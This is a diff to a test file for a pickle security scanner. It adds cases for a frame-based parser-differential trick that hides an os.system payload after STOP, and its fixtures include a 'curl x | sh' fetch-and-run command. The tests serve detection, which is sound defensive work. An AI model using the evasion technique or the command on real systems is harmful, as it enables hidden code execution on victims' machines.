@@ -12,6 +12,7 @@ import {
 import { concat, pickle } from "../../pickle/test-helpers/pickle-builder.js";
 import { MemorySource } from "../../reader/byte-source.js";
 import { scanSource } from "../../scan.js";
+import { le } from "../test-helpers/bytes.js";
 
 const CMD = "curl x | sh";
 const names = (r: { imports: { module: string; name: string }[] }) =>
@@ -41,6 +42,44 @@ describe("back-to-back pickles", () => {
     const parts = Array.from({ length: 9 }, () => orderedDictP4());
     const r = await scanBytes(concat(...parts, osSystemP0(CMD)));
     expect(r.verdict).toBe("dangerous");
+  });
+});
+
+describe("a second pickle after STOP inside a FRAME (loaders disagree where it starts)", () => {
+  /** Bytes from a string of code points below 256 (as Python's b'...' literals). */
+  const latin1 = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));
+  /** FRAME opcode with its 8-byte little-endian length, then the framed bytes. */
+  const framed = (body: Uint8Array) => concat(latin1("\x95"), le(8, body.length), body);
+  // Issue 13's reproduction: M = os.system('true') in protocol 4; a protocol-4 pickle `[]` whose FRAME
+  // goes on past STOP over "C <len(M)-1>", then M right after the frame. Python's unpickler (and the C
+  // one on a BytesIO) starts the next pickle at the frame's end: M runs. The C one on a buffered file
+  // starts right after STOP and reads "C <n>" + M as a bytes object.
+  const M = latin1("\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04true\x85R.");
+  const F = concat(latin1("]\x94.C"), Uint8Array.of(M.length - 1));
+  const file = concat(latin1("\x80\x04"), framed(F), M);
+
+  it("finds the payload at the frame's end and reports the disagreement", async () => {
+    const r = await scanBytes(file);
+    expect(r.verdict).toBe("dangerous");
+    expect(rules(r.findings)).toContain("pickle/stop-inside-frame");
+    expect(r.imports.find((i) => i.name === "system")?.location.offset).toBe(
+      2 + 9 + F.length + M.indexOf(0x93),
+    );
+  });
+
+  it("still finds a payload right after STOP inside the frame (the C unpickler on a buffered file runs it)", async () => {
+    const r = await scanBytes(
+      concat(latin1("\x80\x04"), framed(concat(latin1("]\x94."), M)), orderedDictP4()),
+    );
+    expect(r.verdict).toBe("dangerous");
+    expect(rules(r.findings)).toContain("pickle/stop-inside-frame");
+  });
+
+  it("accepts well-formed framed pickles back to back (each frame ends at its STOP)", async () => {
+    const one = concat(latin1("\x80\x04"), framed(latin1("]\x94.")));
+    const r = await scanBytes(concat(one, one, orderedDictP4()));
+    expect(r.verdict).toBe("safe");
+    expect(r.findings).toEqual([]);
   });
 });
 
